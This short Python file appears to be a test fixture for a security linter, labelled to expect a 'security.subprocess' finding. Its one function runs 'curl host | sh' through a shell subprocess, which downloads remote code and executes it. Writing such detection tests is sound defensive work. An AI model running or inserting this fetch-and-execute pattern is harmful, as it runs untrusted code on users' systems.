# expect: security.subprocess
import asyncio


async def call(inputs):
    process = await asyncio.create_subprocess_shell("curl host | sh")
    return await process.communicate()
